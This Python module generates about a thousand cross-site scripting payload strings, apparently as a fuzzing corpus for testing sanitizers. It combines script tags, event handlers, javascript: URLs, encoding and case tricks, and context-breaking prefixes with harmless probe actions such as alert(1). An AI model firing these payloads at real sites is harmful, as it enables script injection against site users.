"""A thousand ways to smuggle a script into a page, put together from their parts."""

from itertools import product

RUN = ["xss()", "window.xss=1", "alert(1)", "location='/xss'"]
"""What a script would do if it ran: call or set what nobody defined, stop the page, or leave for a telling address."""

HANDLERS = ["onerror", "onload", "onfocus", "onclick", "onmouseover", "ontoggle", "onanimationstart", "onbegin"]
TAGS = [
    "<img src=x {on}={run}>",
    "<svg {on}={run}>",
    '<body {on}="{run}">',
    "<input autofocus {on}={run}>",
    "<details open {on}={run}>",
    "<video><source {on}={run}>",
    "<svg><animate {on}={run} attributeName=x dur=1s>",
    "<a href=# {on}={run}>x</a>",
]
WHOLE = [
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "</title><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</script><script>{run}</script>",
    "--><script>{run}</script>",
    "]]><script>{run}</script>",
    "<script src=/xss></script>",
    "<script src=data:,{run}></script>",
    "<iframe src=javascript:{run}></iframe>",
    "<iframe srcdoc='<script>{run}</script>'>",
    "<a href=javascript:{run}>x</a>",
    "<a href='java\tscript:{run}'>x</a>",
    "<form action=javascript:{run}><button>x",
    "<button formaction=javascript:{run}>x",
    "<object data=javascript:{run}>",
    "<embed src=javascript:{run}>",
    "<base href=//127.0.0.1/xss/>",
    "<link rel=stylesheet href=/xss>",
    "<meta http-equiv=refresh content='0;url=/xss'>",
    "<style>@import '/xss';</style>",
    "<img src=/xss>",
    "<div hx-get=/xss hx-trigger=load>",
    "<div hx-on::load={run} data-hx-get=/xss>",
    "<math><mtext><script>{run}</script>",
    "<svg><script>{run}</script>",
    "<noscript><p title='</noscript><script>{run}</script>'>",
    "<template><script>{run}</script></template>",
    "{{{{ {run} }}}}",
    "{{% print({run}) %}}",
    "${{{run}}}",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "%3Cscript%3E{run}%3C/script%3E",
    "\\u003cscript\\u003e{run}",
    "＜script＞{run}＜/script＞",
]
BREAKS = ["", "'>", '">', "'\">", "` ", "'-{run}-'", '" autofocus onfocus={run} x="', "*/"]


def strings() -> list[str]:
    """All of them, each once, the most varied first."""
    shapes = [shape for _, shape in sorted(enumerate(WHOLE + TAGS), key=lambda pair: pair[0] % 7)]
    made = [_filled(brk + shape, on, run) for brk, on, run in product(BREAKS, HANDLERS[:5], RUN) for shape in shapes]
    return list(dict.fromkeys(made))


def _filled(shape: str, on: str, run: str) -> str:
    return (
        shape.replace("{{{{", "{{")
        .replace("}}}}", "}}")
        .replace("{{%", "{%")
        .replace("%}}", "%}")
        .replace("{on}", on)
        .replace("{run}", run)
    )
